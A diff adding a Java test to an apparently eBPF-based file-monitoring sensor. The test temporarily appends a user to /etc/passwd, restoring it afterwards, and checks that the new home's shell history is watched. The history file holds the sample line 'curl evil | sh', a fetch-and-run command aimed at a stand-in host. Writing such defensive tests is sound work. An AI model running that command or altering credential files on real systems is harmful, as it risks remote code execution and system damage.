@@ -137,4 +137,29 @@ class FileBpfTest {
         Thread.sleep(300);
         assertTrue(s.all(ev -> ev.type() == EventType.WATCHED_CHANGE && ev.header().pid() == plain.pid()).isEmpty());
     }
+
+    /** A home added to /etc/passwd after the sensor started is watched within its refresh (10 s); /etc/passwd is restored. */
+    @Test
+    void aHomeCreatedLaterIsWatched() throws Exception {
+        LiveSensor s = LiveSensor.get();
+        java.nio.file.Path passwd = java.nio.file.Path.of("/etc/passwd");
+        byte[] original = Files.readAllBytes(passwd);
+        java.nio.file.Path home = Files.createTempDirectory(java.nio.file.Path.of("/var/tmp"), "vigil-home");
+        java.nio.file.Path history = home.resolve(".bash_history");
+        Files.writeString(history, "curl evil | sh\n");
+        try {
+            Files.write(passwd, ("vigiltest:x:64999:64999::" + home + ":/usr/sbin/nologin\n").getBytes(),
+                    java.nio.file.StandardOpenOption.APPEND);
+            long deadline = System.nanoTime() + 25_000_000_000L;
+            boolean seen = false;
+            while (!seen && System.nanoTime() < deadline) {
+                LiveSensor.Triggered t = LiveSensor.trigger("read", history.toString());
+                Thread.sleep(500);
+                seen = !s.all(ev -> ev.type() == EventType.FILE_READ && ev.header().pid() == t.pid()).isEmpty();
+            }
+            assertTrue(seen, "the new home's shell history became watched");
+        } finally {
+            Files.write(passwd, original);
+        }
+    }
 }
